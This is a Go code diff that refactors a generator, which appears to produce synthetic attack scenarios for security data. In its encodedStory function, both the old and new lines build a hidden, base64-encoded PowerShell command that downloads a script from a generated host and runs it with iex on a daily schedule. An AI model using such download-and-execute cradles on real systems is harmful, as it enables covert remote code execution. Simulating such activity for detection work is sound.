@@ -46,7 +46,9 @@ func startsInTheLog(m *machine) bool {
 }
 
 // each is the schedule of a channel.
-func each(period, delay Time) trigger { return trigger{on: every, every: period, delay: delay, catchUp: period >= 8*hour} }
+func each(period, delay Time) trigger {
+	return trigger{on: every, every: period, delay: delay, catchUp: period >= 8*hour}
+}
 
 // vendorLike and scriptLike are tasks under a name as the tail has them.
 func vendorLike(w *world, d dice, when trigger, root node) kind {
@@ -167,8 +169,7 @@ func fakeUpdaterStory(w *world, d dice, p *plant) kind {
 
 func encodedStory(w *world, d dice, p *plant) kind {
 	stem, c := w.names.script(), p.calls(w.own(""), 24*hour, 0)
-	when := trigger{on: every, every: 24 * hour, delay: 3 * minute}
-	return scriptLike(w, d, when, stem, ps(`-nop -w hidden -enc `+encoded(`$c=New-Object Net.WebClient;iex $c.DownloadString('https://`+hostOf(p.where)+`/`+d.text(5, lower)+`')`)).call(c))
+	return scriptLike(w, d, each(24*hour, 3*minute), stem, ps(`-nop -w hidden -enc `+encoded(`$c=New-Object Net.WebClient;iex $c.DownloadString('https://`+hostOf(p.where)+`/`+d.text(5, lower)+`')`)).call(c))
 }
 
 func signedHostsStory(w *world, d dice, p *plant) kind {
